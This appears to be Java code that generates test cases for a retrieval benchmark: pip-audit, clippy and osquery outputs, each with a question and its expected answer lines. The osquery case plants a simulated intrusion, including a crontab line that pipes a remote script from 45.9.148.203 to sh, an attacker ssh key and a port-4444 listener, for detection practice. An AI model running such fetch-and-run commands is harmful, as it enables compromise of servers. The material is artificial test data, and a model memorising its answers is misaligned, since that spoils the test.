    private static final String[] PY_PACKAGES = {"aiohttp", "aiosignal", "alembic", "amqp", "annotated-types", "anyio", "asgiref", "attrs",
        "babel", "bcrypt", "billiard", "black", "boto3", "botocore", "cachetools", "celery", "certifi", "cffi", "charset-normalizer", "click",
        "click-didyoumean", "click-plugins", "click-repl", "colorama", "coverage", "cryptography", "decorator", "deprecated", "dill",
        "distlib", "django", "django-cors-headers", "django-environ", "django-filter", "django-redis", "django-storages", "djangorestframework",
        "dnspython", "docutils", "email-validator", "factory-boy", "faker", "fastapi", "filelock", "flake8", "frozenlist", "fsspec",
        "google-api-core", "google-auth", "googleapis-common-protos", "greenlet", "grpcio", "grpcio-status", "gunicorn", "h11", "httpcore",
        "httptools", "httpx", "idna", "importlib-metadata", "iniconfig", "isort", "itsdangerous", "jinja2", "jmespath", "jsonschema",
        "jsonschema-specifications", "kombu", "lxml", "mako", "markdown", "markupsafe", "marshmallow", "mccabe", "multidict", "mypy",
        "mypy-extensions", "numpy", "oauthlib", "openpyxl", "opentelemetry-api", "opentelemetry-sdk", "orjson", "packaging", "pandas",
        "pathspec", "pillow", "platformdirs", "pluggy", "prometheus-client", "prompt-toolkit", "protobuf", "psutil", "psycopg", "psycopg-binary",
        "pyasn1", "pyasn1-modules", "pycodestyle", "pycparser", "pydantic", "pydantic-core", "pydantic-settings", "pyflakes", "pygments", "pyjwt",
        "pyparsing", "pytest", "pytest-asyncio", "pytest-cov", "pytest-django", "pytest-mock", "python-dateutil", "python-dotenv",
        "python-multipart", "pytz", "pyyaml", "redis", "referencing", "requests", "requests-oauthlib", "rpds-py", "rsa", "s3transfer", "sentry-sdk",
        "setuptools", "six", "sniffio", "sqlalchemy", "sqlparse", "starlette", "structlog", "tenacity", "tomli", "tqdm", "typing-extensions",
        "tzdata", "ujson", "urllib3", "uvicorn", "uvloop", "vine", "virtualenv", "watchfiles", "wcwidth", "websockets", "werkzeug", "wrapt",
        "xlsxwriter", "yarl", "zipp", "zope-interface", "whitenoise", "weasyprint", "tinycss2", "cssselect2", "html5lib", "webencodings",
        "fonttools", "pydyf", "pyphen", "brotli", "zopfli", "cairocffi", "cairosvg", "defusedxml", "et-xmlfile", "phonenumbers", "stripe",
        "twilio", "sendgrid", "python-http-client", "starkbank-ecdsa", "flower", "humanize", "tornado", "kubernetes", "websocket-client",
        "durationpy", "google-cloud-storage", "google-cloud-core", "google-resumable-media", "google-crc32c", "proto-plus", "nodeenv",
        "pre-commit", "identify", "cfgv", "pip", "wheel", "build", "pyproject-hooks", "hatchling", "trove-classifiers", "editables",
        "msgpack", "cachecontrol", "ruamel-yaml", "ruamel-yaml-clib", "simplejson", "toml", "tomlkit", "types-requests", "types-pyyaml",
        "types-python-dateutil", "django-stubs", "django-stubs-ext", "djangorestframework-stubs", "inflection", "drf-spectacular", "uritemplate",
        "pyrsistent", "jsonpointer", "jsonpatch", "argon2-cffi", "argon2-cffi-bindings", "django-otp", "qrcode", "pypng", "segno"};

    /**
     * pip-audit -r requirements/prod.txt -f json piped through jq: every pinned dependency of a Django shop with its version
     * and an empty vulns list, two internal packages skipped as not on PyPI, and three vulnerable ones: jinja2 3.1.3
     * (GHSA-h75v-3vvj-5mfj, fixed in 3.1.4), requests 2.31.0 (GHSA-9wx4-h78v-vm56, fixed in 2.32.0) and cryptography 42.0.2
     * with two advisories (GHSA-6vqw-3v5j-54x4 and GHSA-3ww4-gg4f-jr7f). The question asks which dependencies are
     * vulnerable and which advisories: the name line of each vulnerable package and the id line of each advisory.
     */
    static NeedleCase pipAudit() {
        Gen g = new Gen(250_003);
        List<String> names = new ArrayList<>(new TreeSet<>(List.of(PY_PACKAGES)));
        List<Object> deps = new ArrayList<>();
        Map<String, List<Object>> vulns = Map.of(
                "jinja2", List.of(obj("id", "GHSA-h75v-3vvj-5mfj", "fix_versions", arr("3.1.4"), "aliases", arr("CVE-2024-34064"), "description",
                        "The `xmlattr` filter in affected versions of Jinja accepts keys containing non-attribute characters. XML/HTML attributes"
                        + " cannot contain spaces, `/`, `>`, or `=`, as each would then be interpreted as starting a separate attribute. If an"
                        + " application accepts keys (as opposed to only values) as user input, and renders these in pages that other users see as"
                        + " well, an attacker could use this to inject other attributes and perform XSS.")),
                "requests", List.of(obj("id", "GHSA-9wx4-h78v-vm56", "fix_versions", arr("2.32.0"), "aliases", arr("CVE-2024-35195"),
                        "description", "When making requests through a Requests `Session`, if the first request is made with `verify=False` to"
                        + " disable cert verification, all subsequent requests to the same origin will continue to ignore cert verification"
                        + " regardless of changes to the value of `verify`. This behavior will continue for the lifecycle of the connection in the"
                        + " connection pool.")),
                "cryptography", List.of(obj("id", "GHSA-6vqw-3v5j-54x4", "fix_versions", arr("42.0.4"), "aliases", arr("CVE-2024-26130"),
                        "description", "If `pkcs12.serialize_key_and_certificates` is called with both a certificate whose public key did not"
                        + " match the provided private key and an `encryption_algorithm` with `hmac_hash` set, then a NULL pointer dereference"
                        + " would occur, crashing the Python process."),
                        obj("id", "GHSA-3ww4-gg4f-jr7f", "fix_versions", arr("42.0.0"), "aliases", arr("CVE-2023-50782"), "description",
                        "A flaw was found in the python-cryptography package. This issue may allow a remote attacker to decrypt captured messages"
                        + " in TLS servers that use RSA key exchanges, which may lead to exposure of confidential or sensitive data.")));
        Map<String, String> pinned = Map.of("jinja2", "3.1.3", "requests", "2.31.0", "cryptography", "42.0.2");
        names.add(g.between(20, 60), "acme-billing-client");
        names.add(g.between(120, 160), "acme-shared-models");
        for (String name : names) {
            if (name.startsWith("acme-")) {
                String v = "0." + g.between(2, 19) + "." + g.between(0, 9);
                deps.add(obj("name", name, "skip_reason", "Dependency not found on PyPI and could not be audited: " + name + " (" + v + ")"));
                continue;
            }
            String v = pinned.containsKey(name) ? pinned.get(name) : g.between(0, 24) + "." + g.between(0, 30) + "." + g.between(0, 12);
            deps.add(obj("name", name, "version", v, "vulns", vulns.containsKey(name) ? new ArrayList<>(vulns.get(name)) : arr()));
        }
        String text = JsonTree.pretty(obj("dependencies", deps, "fixes", arr()), 2) + "\n";
        requireSize(text, 20, 120);
        List<Needle> needles = new ArrayList<>();
        for (String name : List.of("cryptography", "jinja2", "requests")) {
            needles.add(Needle.exact("      \"name\": \"" + name + "\","));
        }
        for (String id : List.of("GHSA-h75v-3vvj-5mfj", "GHSA-9wx4-h78v-vm56", "GHSA-6vqw-3v5j-54x4", "GHSA-3ww4-gg4f-jr7f")) {
            needles.add(Needle.exact(only(text, "\"id\": \"" + id + "\"")));
        }
        return NeedleCase.named("fresh22_pip_audit_json", "json", "pip-audit-json")
                .shell("pip-audit -r requirements/prod.txt -f json | jq .")
                .question("Security review before the release: which of our pinned Python dependencies have known vulnerabilities, and which"
                        + " advisories (ids) are they?")
                .heldAside()
                .build(text, needles);
    }

    // ---------------------------------------------------------------- cargo clippy --message-format=json

    private static final String[] CRATES = {"addr2line", "adler2", "ahash", "aho-corasick", "allocator-api2", "anstream", "anstyle",
        "anstyle-parse", "anstyle-query", "anyhow", "arc-swap", "async-stream", "async-stream-impl", "async-trait", "atomic-waker", "autocfg",
        "axum", "axum-core", "backtrace", "base64", "bitflags", "block-buffer", "bumpalo", "bytes", "cc", "cfg-if", "chrono", "clap",
        "clap_builder", "clap_derive", "clap_lex", "colorchoice", "concurrent-queue", "cpufeatures", "crc32fast", "crossbeam-channel",
        "crossbeam-epoch", "crossbeam-queue", "crossbeam-utils", "crypto-common", "dashmap", "deranged", "digest", "displaydoc", "either",
        "encoding_rs", "equivalent", "errno", "event-listener", "fastrand", "flate2", "fnv", "form_urlencoded", "futures", "futures-channel",
        "futures-core", "futures-executor", "futures-io", "futures-macro", "futures-sink", "futures-task", "futures-util", "generic-array",
        "getrandom", "gimli", "h2", "hashbrown", "heck", "hex", "hmac", "http", "http-body", "http-body-util", "httparse", "httpdate", "hyper",
        "hyper-rustls", "hyper-util", "iana-time-zone", "icu_collections", "icu_locid", "icu_normalizer", "icu_properties", "icu_provider",
        "idna", "indexmap", "ipnet", "itoa", "js-sys", "lazy_static", "libc", "linux-raw-sys", "litemap", "lock_api", "log", "matchers",
        "matchit", "md-5", "memchr", "mime", "miniz_oxide", "mio", "nu-ansi-term", "num-conv", "num-traits", "object", "once_cell",
        "overload", "parking", "parking_lot", "parking_lot_core", "percent-encoding", "pin-project", "pin-project-internal",
        "pin-project-lite", "pin-utils", "powerfmt", "ppv-lite86", "proc-macro2", "prost", "prost-derive", "quote", "rand", "rand_chacha",
        "rand_core", "regex", "regex-automata", "regex-syntax", "reqwest", "ring", "rustc-demangle", "rustix", "rustls", "rustls-pemfile",
        "rustls-pki-types", "rustls-webpki", "rustversion", "ryu", "scopeguard", "serde", "serde_derive", "serde_json", "serde_path_to_error",
        "serde_urlencoded", "sha1", "sha2", "sharded-slab", "signal-hook-registry", "slab", "smallvec", "socket2", "spin", "sqlx", "sqlx-core",
        "sqlx-macros", "sqlx-macros-core", "sqlx-postgres", "stable_deref_trait", "stringprep", "strsim", "subtle", "syn", "sync_wrapper",
        "synstructure", "thiserror", "thiserror-impl", "thread_local", "time", "time-core", "time-macros", "tinystr", "tinyvec",
        "tinyvec_macros", "tokio", "tokio-macros", "tokio-rustls", "tokio-stream", "tokio-util", "tonic", "tower", "tower-http",
        "tower-layer", "tower-service", "tracing", "tracing-attributes", "tracing-core", "tracing-log", "tracing-subscriber", "try-lock",
        "typenum", "unicode-bidi", "unicode-ident", "unicode-normalization", "unicode-properties", "untrusted", "url", "utf8_iter",
        "utf8parse", "uuid", "valuable", "version_check", "want", "webpki-roots", "whoami", "writeable", "yoke", "yoke-derive", "zerocopy",
        "zerocopy-derive", "zerofrom", "zerofrom-derive", "zeroize", "zerovec", "zerovec-derive", "atoi", "crc", "crc-catalog",
        "dotenvy", "flume", "futures-intrusive", "hashlink", "hkdf", "home", "md5", "sqlformat", "unicode_categories", "urlencoding"};

    private static final Set<String> BUILD_SCRIPTS = Set.of("libc", "proc-macro2", "serde", "serde_json", "ring", "rustix", "typenum",
        "generic-array", "anyhow", "thiserror", "zerocopy", "httparse", "parking_lot_core", "lock_api", "crossbeam-utils", "icu_properties",
        "icu_normalizer", "rustls", "num-traits", "prost", "tonic", "sqlx-macros-core", "crc32fast", "time", "memchr", "getrandom");

    private static Map<String, Object> rustTarget(String name, String kind, String srcPath, String edition) {
        return obj("kind", arr(kind), "crate_types", arr(kind.equals("custom-build") ? "bin" : kind), "name", name, "src_path", srcPath,
                "edition", edition, "doc", kind.equals("lib"), "doctest", kind.equals("lib"), "test", true);
    }

    private record Lint(String crate, String code, String level, String message, String file, int line, int col, String label, String help) {}

    /**
     * cargo clippy --workspace --all-targets --message-format=json (stderr dropped) over a Rust service workspace: one
     * compiler-artifact line per dependency (fresh, with filenames and features), build-script-executed lines, then the
     * workspace crates' compiler-message lines: dozens of warn-by-default lints (needless_return, redundant_clone,
     * uninlined_format_args, too_many_arguments...) and two errors: clippy::never_loop (deny by default) in
     * crates/ingest/src/retry.rs:48:9 and clippy::unwrap_used (denied on the command line) in
     * crates/api/src/handlers/export.rs:133:38; their "aborting due to" messages; build-finished success false. The question
     * asks which lints fail the job and where: the two error diagnostic lines.
     */
    static NeedleCase clippyJson() {
        Gen g = new Gen(250_004);
        String registry = "/home/ci/.cargo/registry/src/index.crates.io-6f17d22bba15001f/";
        String targetDir = "/builds/acme/ledger/target/debug/";
        Map<String, String> versions = new java.util.TreeMap<>();
        for (String crate : CRATES) {
            versions.put(crate, g.between(0, 2) + "." + g.between(0, 40) + "." + g.between(0, 30));
        }
        for (String crate : CRATES) {
            String v = versions.get(crate);
            String id = "registry+https://github.com/rust-lang/crates.io-index#" + crate + "@" + v;
            String manifest = registry + crate + "-" + v + "/Cargo.toml";
            String lib = crate.replace('-', '_');
            if (BUILD_SCRIPTS.contains(crate)) {
                g.add(JsonTree.compact(obj("reason", "compiler-artifact", "package_id", id, "manifest_path", manifest, "target",
                        rustTarget("build-script-build", "custom-build", registry + crate + "-" + v + "/build.rs", "2021"), "profile",
                        obj("opt_level", "0", "debuginfo", 0, "debug_assertions", true, "overflow_checks", true, "test", false), "features",
                        arr("default", "std"), "filenames", arr(targetDir + "build/" + crate + "-" + g.hex(16) + "/build-script-build"),
                        "executable", null, "fresh", true)));
                g.add(JsonTree.compact(obj("reason", "build-script-executed", "package_id", id, "linked_libs", arr(), "linked_paths", arr(),
                        "cfgs", g.chance(0.5) ? arr() : arr(g.pick("has_total_cmp", "no_literal_matcher", "std_backtrace", "wrap_proc_macro",
                                "linux_like", "static_assertions")), "env", arr(), "out_dir", targetDir + "build/" + crate + "-" + g.hex(16) + "/out")));
            }
            boolean macro = crate.endsWith("-derive") || crate.endsWith("_derive") || crate.endsWith("-impl") || crate.endsWith("-macros")
                    || crate.endsWith("-internal") || crate.equals("async-trait") || crate.equals("displaydoc") || crate.endsWith("-attributes");
            String kind = macro ? "proc-macro" : "lib";
            String hash = g.hex(16);
            g.add(JsonTree.compact(obj("reason", "compiler-artifact", "package_id", id, "manifest_path", manifest, "target",
                    rustTarget(lib, kind, registry + crate + "-" + v + "/src/lib.rs", g.pick("2018", "2021", "2021")), "profile",
                    obj("opt_level", "0", "debuginfo", 0, "debug_assertions", true, "overflow_checks", true, "test", false), "features",
                    g.chance(0.4) ? arr() : arr("default", "std"), "filenames", macro ? arr(targetDir + "deps/lib" + lib + "-" + hash + ".so")
                            : arr(targetDir + "deps/lib" + lib + "-" + hash + ".rmeta"), "executable", null, "fresh", true)));
        }
        List<Lint> lints = new ArrayList<>();
        String[] crates = {"core", "ingest", "api", "ledger-cli", "migrations"};
        String[][] warns = {
            {"clippy::needless_return", "unneeded `return` statement", "", "remove `return`"},
            {"clippy::redundant_clone", "redundant clone", "", "remove this"},
            {"clippy::uninlined_format_args", "variables can be used directly in the `format!` string", "", "change this to"},
            {"clippy::too_many_arguments", "this function has too many arguments (9/7)", "", ""},
            {"clippy::needless_borrow", "this expression creates a reference which is immediately dereferenced by the compiler", "",
                "change this to"},
            {"clippy::single_match", "you seem to be trying to use `match` for destructuring a single pattern. Consider using `if let`", "",
                "try"},
            {"clippy::manual_map", "manual implementation of `Option::map`", "", "try"},
            {"clippy::len_zero", "length comparison to zero", "", "using `is_empty` is clearer and more explicit"},
            {"clippy::large_enum_variant", "large size difference between variants", "the second-largest variant contains at least 24 bytes",
                "consider boxing the large fields to reduce the total size of the enum"},
            {"clippy::type_complexity", "very complex type used. Consider factoring parts into `type` definitions", "", ""}};
        String[] files = {"src/lib.rs", "src/model.rs", "src/store.rs", "src/config.rs", "src/error.rs", "src/handlers/accounts.rs",
            "src/handlers/transfers.rs", "src/batch.rs", "src/pipeline.rs", "src/main.rs", "src/report.rs"};
        int nWarn = g.between(34, 44);
        for (int i = 0; i < nWarn; i++) {
            String[] w = g.pick(warns);
            lints.add(new Lint(g.pick(crates), w[0], "warning", w[1], "crates/" + "%s/" + g.pick(files), g.between(12, 640), g.between(5, 40),
                    w[2], w[3]));
        }
        Lint neverLoop = new Lint("ingest", "clippy::never_loop", "error", "this loop never actually loops", "crates/ingest/src/retry.rs", 48, 9,
                "", "if you need the first element of the iterator, try writing");
        Lint unwrap = new Lint("api", "clippy::unwrap_used", "error", "used `unwrap()` on a `Result` value", "crates/api/src/handlers/export.rs", 133,
                38, "", "if this value is an `Err`, it will panic");
        lints.add(g.between(3, 12), neverLoop);
        lints.add(g.between(20, 30), unwrap);
        List<String> errorLines = new ArrayList<>();
        for (String crate : crates) {
            String id = "path+file:///builds/acme/ledger/crates/" + crate + "#" + (crate.equals("ledger-cli") ? "ledger-cli" : "ledger-" + crate)
                    + "@0.14.2";
            String manifest = "/builds/acme/ledger/crates/" + crate + "/Cargo.toml";
            Map<String, Object> target = rustTarget("ledger_" + crate.replace('-', '_'), crate.equals("ledger-cli") ? "bin" : "lib",
                    "/builds/acme/ledger/crates/" + crate + "/src/" + (crate.equals("ledger-cli") ? "main.rs" : "lib.rs"), "2021");
            int errors = 0;
            int warnings = 0;
            for (Lint l : lints) {
                if (!l.crate().equals(crate)) {
                    continue;
                }
                String file = l.file().replace("%s", crate);
                String name = l.code().substring("clippy::".length());
                String rendered = l.level() + ": " + l.message() + "\n  --> " + file + ":" + l.line() + ":" + l.col() + "\n   |\n"
                        + lpad(String.valueOf(l.line()), 3) + " |         " + g.pick("let", "return", "for", "match", "if", "Ok(")
                        + " ...\n   |         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^\n   |\n   = help: for further information visit"
                        + " https://rust-lang.github.io/rust-clippy/master/index.html#" + name + "\n"
                        + (l.level().equals("error") && name.equals("never_loop") ? "   = note: `#[deny(clippy::never_loop)]` on by default\n"
                        : l.level().equals("error") ? "   = note: requested on the command line with `-D clippy::unwrap-used`\n" : "")
                        + "\n";
                List<Object> children = arr(obj("message", "for further information visit https://rust-lang.github.io/rust-clippy/master/index.html#"
                        + name, "code", null, "level", "help", "spans", arr(), "children", arr(), "rendered", null));
                if (!l.help().isEmpty()) {
                    children.add(obj("message", l.help(), "code", null, "level", "help", "spans", arr(), "children", arr(), "rendered", null));
                }
                int start = g.between(400, 30_000);
                Map<String, Object> span = obj("file_name", file, "byte_start", start, "byte_end", start + g.between(8, 300), "line_start",
                        l.line(), "line_end", l.line() + g.between(0, 6), "column_start", l.col(), "column_end", l.col() + g.between(4, 40),
                        "is_primary", true, "text", arr(obj("text", "        " + g.pick("let", "return", "for", "match", "if", "Ok(") + " ...",
                                "highlight_start", l.col(), "highlight_end", l.col() + 12)), "label", l.label().isEmpty() ? null : l.label(),
                        "suggested_replacement", null, "suggestion_applicability", null, "expansion", null);
                String line = JsonTree.compact(obj("reason", "compiler-message", "package_id", id, "manifest_path", manifest, "target", target,
                        "message", obj("$message_type", "diagnostic", "message", l.message(), "code", obj("code", l.code(), "explanation", null),
                                "level", l.level(), "spans", arr(span), "children", children, "rendered", rendered)));
                g.add(line);
                if (l.level().equals("error")) {
                    errorLines.add(line);
                    errors++;
                } else {
                    warnings++;
                }
            }
            if (errors > 0) {
                String msg = "aborting due to " + errors + " previous error" + (warnings > 0 ? "; " + warnings + " warning" + (warnings == 1 ? "" : "s")
                        + " emitted" : "");
                g.add(JsonTree.compact(obj("reason", "compiler-message", "package_id", id, "manifest_path", manifest, "target", target, "message",
                        obj("$message_type", "diagnostic", "message", msg, "code", null, "level", "error", "spans", arr(), "children", arr(),
                                "rendered", "error: " + msg + "\n\n"))));
            } else {
                g.add(JsonTree.compact(obj("reason", "compiler-artifact", "package_id", id, "manifest_path", manifest, "target", target,
                        "profile", obj("opt_level", "0", "debuginfo", 2, "debug_assertions", true, "overflow_checks", true, "test", false),
                        "features", arr("default"), "filenames", arr(targetDir + "deps/libledger_" + crate.replace('-', '_') + "-" + g.hex(16)
                                + ".rmeta"), "executable", null, "fresh", false)));
            }
        }
        g.add("{\"reason\":\"build-finished\",\"success\":false}");
        String text = g.text();
        requireSize(text, 100, 300);
        requireCount(text, "\"level\":\"error\",\"spans\":[{", 2);
        if (errorLines.size() != 2) {
            throw new IllegalStateException("errors: " + errorLines.size());
        }
        return NeedleCase.named("fresh22_cargo_clippy_json", "jsonl", "cargo-clippy-json")
                .shell("cargo clippy --workspace --all-targets --message-format=json -- -D clippy::unwrap-used 2>/dev/null")
                .question("The lint job fails on clippy. There are tons of warnings, which I don't care about right now: which lints are actual"
                        + " errors, and in which file and line?")
                .heldAside()
                .build(text, List.of(Needle.exact(errorLines.get(0)), Needle.exact(errorLines.get(1))));
    }

    // ---------------------------------------------------------------- osqueryd.results.log

    private static final DateTimeFormatter OSQ_TIME = DateTimeFormatter.ofPattern("EEE MMM ppd HH:mm:ss yyyy 'UTC'", Locale.ROOT);

    private record Row(long at, int seq, String query, Map<String, Object> columns, String action) {}

    /**
     * The last lines of /var/log/osquery/osqueryd.results.log on a PHP web server, web-3, over a day and a half: differential
     * results of the incident-response pack (processes coming and going: php-fpm children, cron shells, logrotate, apt;
     * nginx reloads re-adding its listening ports; logins of the ops team; unattended-upgrades replacing deb packages; a
     * rotated CI deploy key). At 03:12 on the second night three rows show a compromise through the www-data user: an
     * ssh key added to /var/www/.ssh/authorized_keys, a www-data crontab entry piping a remote script to sh and a process
     * from /var/tmp/.font-unix listening on port 4444. The question asks whether a new ssh key, cron entry or listener was
     * added: those three rows.
     */
    static NeedleCase osqueryResults() {
        Gen g = new Gen(250_005);
        LocalDateTime start = LocalDateTime.of(2026, 12, 7, 0, 0, 0);
        long span = 32L * 3600;
        List<Row> rows = new ArrayList<>();
        int[] seq = {0};
        int pid = 120_000;
        String[] ops = {"mkovacs", "jdoe", "lchen", "deploy"};
        for (int i = 0; i < 210; i++) {
            long t = g.nextInt((int) span);
            int kind = g.weighted(50, 6, 5, 3);
            if (kind == 0) {
                pid += g.between(3, 400);
                String[][] procs = {{"php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www", "33"},
                    {"sh", "/usr/bin/dash", "/bin/sh -c /usr/local/bin/sitemap-rebuild.sh", "33"},
                    {"logrotate", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "0"},
                    {"apt-get", "/usr/bin/apt-get", "apt-get -qq update", "0"},
                    {"sh", "/usr/bin/dash", "/bin/sh -c [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then"
                        + " /usr/lib/php/sessionclean; fi", "0"},
                    {"certbot", "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/certbot -q renew", "0"},
                    {"node_exporter", "/usr/local/bin/node_exporter", "/usr/local/bin/node_exporter --collector.systemd", "65534"}};
                String[] p = g.pick(procs);
                long st = start.toEpochSecond(ZoneOffset.UTC) + t;
                Map<String, Object> cols = obj("cmdline", p[2], "name", p[0], "parent", String.valueOf(g.between(800, 4_000)), "path", p[1],
                        "pid", String.valueOf(pid), "start_time", String.valueOf(st), "uid", p[3]);
                rows.add(new Row(t, seq[0]++, "pack_incident-response_processes", cols, "added"));
                Map<String, Object> gone = new java.util.LinkedHashMap<>(cols);
                rows.add(new Row(t + g.between(60, 900), seq[0]++, "pack_incident-response_processes", gone, "removed"));
            } else if (kind == 1) {
                int nginx = g.between(900, 1_900);
                int old = g.between(900, 1_900);
                for (String port : new String[] {"80", "443"}) {
                    for (String fam : new String[] {"0.0.0.0", "::"}) {
                        rows.add(new Row(t, seq[0]++, "pack_incident-response_listening_ports", obj("address", fam, "name", "nginx", "path",
                                "/usr/sbin/nginx", "pid", String.valueOf(old), "port", port, "protocol", "6"), "removed"));
                        rows.add(new Row(t, seq[0]++, "pack_incident-response_listening_ports", obj("address", fam, "name", "nginx", "path",
                                "/usr/sbin/nginx", "pid", String.valueOf(nginx), "port", port, "protocol", "6"), "added"));
                    }
                }
            } else if (kind == 2) {
                String user = g.pick(ops);
                String host = "10.20." + g.between(0, 3) + "." + g.between(2, 250);
                String tty = "pts/" + g.between(0, 4);
                long lt = start.toEpochSecond(ZoneOffset.UTC) + t;
                rows.add(new Row(t, seq[0]++, "pack_incident-response_logged_in_users", obj("host", host, "pid", String.valueOf(g.between(20_000, 99_000)),
                        "time", String.valueOf(lt), "tty", tty, "type", "user", "user", user), "added"));
                rows.add(new Row(t + g.between(120, 5_000), seq[0]++, "pack_incident-response_logged_in_users", obj("host", host, "pid",
                        String.valueOf(g.between(20_000, 99_000)), "time", String.valueOf(lt), "tty", tty, "type", "user", "user", user), "removed"));
            } else {
                String[] pkgs = {"libssl3", "openssl", "libcurl4", "curl", "php8.2-fpm", "php8.2-common", "php8.2-cli", "tzdata", "libxml2",
                    "libexpat1", "nginx-common", "nginx", "libnss3", "sudo", "libc6", "libc-bin"};
                String pkg = g.pick(pkgs);
                String v = g.between(1, 9) + "." + g.between(0, 30) + "-" + g.between(1, 5) + "+deb12u" + g.between(1, 6);
                rows.add(new Row(t, seq[0]++, "pack_incident-response_deb_packages", obj("arch", "amd64", "name", pkg, "source", "", "version", v),
                        "removed"));
                rows.add(new Row(t, seq[0]++, "pack_incident-response_deb_packages", obj("arch", "amd64", "name", pkg, "source", "", "version",
                        v.substring(0, v.length() - 1) + (char) (v.charAt(v.length() - 1) + 1)), "added"));
            }
        }
        long rot = 11L * 3600 + 20 * 60 + 7;
        rows.add(new Row(rot, seq[0]++, "pack_incident-response_authorized_keys", obj("algorithm", "ssh-ed25519", "comment", "ci-deploy-2026-11",
                "key", "AAAAC3NzaC1lZDI1NTE5AAAAI" + Inputs.mixed(g, 43), "key_file", "/home/deploy/.ssh/authorized_keys", "options", "", "uid", "1001"),
                "removed"));
        rows.add(new Row(rot, seq[0]++, "pack_incident-response_authorized_keys", obj("algorithm", "ssh-ed25519", "comment", "ci-deploy-2026-12",
                "key", "AAAAC3NzaC1lZDI1NTE5AAAAI" + Inputs.mixed(g, 43), "key_file", "/home/deploy/.ssh/authorized_keys", "options", "", "uid", "1001"),
                "added"));
        long bad = 27L * 3600 + 12 * 60 + 31;
        Map<String, Object> keyCols = obj("algorithm", "ssh-rsa", "comment", "root@vps-3387", "key", "AAAAB3NzaC1yc2EAAAADAQABAAABgQ" + Inputs.mixed(g,
                60), "key_file", "/var/www/.ssh/authorized_keys", "options", "", "uid", "33");
        Map<String, Object> cronCols = obj("command", "(curl -fsSL http://45.9.148.203/w.sh || wget -q -O- http://45.9.148.203/w.sh) | sh",
                "day_of_month", "*", "day_of_week", "*", "event", "", "hour", "*", "minute", "*/10", "month", "*", "path",
                "/var/spool/cron/crontabs/www-data");
        int badPid = pid + 77;
        Map<String, Object> portCols = obj("address", "0.0.0.0", "name", "kdevtmpfsi", "path", "/var/tmp/.font-unix/kdevtmpfsi", "pid",
                String.valueOf(badPid), "port", "4444", "protocol", "6");
        rows.add(new Row(bad, seq[0]++, "pack_incident-response_authorized_keys", keyCols, "added"));
        rows.add(new Row(bad + 48, seq[0]++, "pack_incident-response_crontab", cronCols, "added"));
        rows.add(new Row(bad + 602, seq[0]++, "pack_incident-response_processes", obj("cmdline", "/var/tmp/.font-unix/kdevtmpfsi", "name", "kdevtmpfsi",
                "parent", "1", "path", "/var/tmp/.font-unix/kdevtmpfsi", "pid", String.valueOf(badPid), "start_time",
                String.valueOf(start.toEpochSecond(ZoneOffset.UTC) + bad + 590), "uid", "33"), "added"));
        rows.add(new Row(bad + 660, seq[0]++, "pack_incident-response_listening_ports", portCols, "added"));
        rows.sort(java.util.Comparator.comparingLong(Row::at).thenComparingInt(Row::seq));
        Map<String, Integer> counters = new java.util.TreeMap<>();
        String hostUuid = "ec2" + g.hex(5) + "-" + g.hex(4) + "-" + g.hex(4) + "-" + g.hex(4) + "-" + g.hex(12);
        List<String> needles = new ArrayList<>();
        for (Row r : rows) {
            LocalDateTime when = start.plusSeconds(r.at());
            int counter = counters.merge(r.query(), 1, Integer::sum) + 211;
            String line = JsonTree.compact(obj("name", r.query(), "hostIdentifier", "web-3.prod.acme.internal", "calendarTime", OSQ_TIME.format(when),
                    "unixTime", when.toEpochSecond(ZoneOffset.UTC), "epoch", 0, "counter", counter, "numerics", false, "decorations",
                    obj("host_uuid", hostUuid, "hostname", "web-3"), "columns", r.columns(), "action", r.action()));
            g.add(line);
            if (r.columns() == keyCols || r.columns() == cronCols || r.columns() == portCols) {
                needles.add(line);
            }
        }
        String text = g.text();
        requireLines(g, 400, 1200);
        requireSize(text, 80, 300);
        requireCount(text, "45.9.148.203/w.sh", 2);
        requireCount(text, "\"port\":\"4444\"", 1);
        return NeedleCase.named("fresh22_osquery_results", "jsonl", "osquery-results-jsonl")
                .shell("sudo tail -n 1000 /var/log/osquery/osqueryd.results.log")
                .question("We got an outbound-traffic alert from web-3. From osquery's results since yesterday: was any new SSH key, cron entry or"
                        + " listening process added on that box that isn't routine?")
                .heldAside()
                .build(text, needles.stream().map(Needle::exact).toList());
    }

    // ---------------------------------------------------------------- pnpm outdated -r

    private static final String[] NPM = {"react", "react-dom", "react-router-dom", "@tanstack/react-query", "@tanstack/react-table", "zustand",
        "axios", "zod", "react-hook-form", "@hookform/resolvers", "date-fns", "clsx", "tailwind-merge", "lucide-react", "framer-motion",
        "recharts", "i18next", "react-i18next", "@sentry/react", "@sentry/vite-plugin", "vite", "@vitejs/plugin-react", "typescript", "eslint",
        "@typescript-eslint/parser", "@typescript-eslint/eslint-plugin", "eslint-plugin-react-hooks", "eslint-plugin-react-refresh", "prettier",
        "prettier-plugin-tailwindcss", "tailwindcss", "postcss", "autoprefixer", "@types/react", "@types/react-dom", "@types/node", "vitest",
        "@vitest/coverage-v8", "@testing-library/react", "@testing-library/jest-dom", "@testing-library/user-event", "jsdom", "msw",
        "@playwright/test", "storybook", "@storybook/react-vite", "@storybook/addon-essentials", "@storybook/addon-interactions",
        "@radix-ui/react-dialog", "@radix-ui/react-dropdown-menu", "@radix-ui/react-popover", "@radix-ui/react-select", "@radix-ui/react-tabs",
        "@radix-ui/react-tooltip", "@radix-ui/react-checkbox", "@radix-ui/react-slot", "class-variance-authority", "cmdk", "sonner", "nanoid",
        "lodash-es", "@types/lodash-es", "dayjs", "numeral", "papaparse", "@types/papaparse", "xlsx", "jspdf", "qrcode.react",
        "@tiptap/react", "@tiptap/starter-kit", "@tiptap/pm", "dompurify", "@types/dompurify", "marked", "highlight.js", "fuse.js",
        "react-virtuoso", "@dnd-kit/core", "@dnd-kit/sortable", "@dnd-kit/utilities", "immer", "ky", "superjson", "@trpc/client",
        "@trpc/server", "@trpc/react-query", "fastify", "@fastify/cors", "@fastify/helmet", "@fastify/rate-limit", "pino", "pino-pretty",
        "drizzle-orm", "drizzle-kit", "pg", "@types/pg", "ioredis", "bullmq", "dotenv", "tsx", "tsup", "turbo", "husky", "lint-staged",
        "@commitlint/cli", "@commitlint/config-conventional", "changesets", "@changesets/cli", "rimraf", "concurrently", "cross-env",
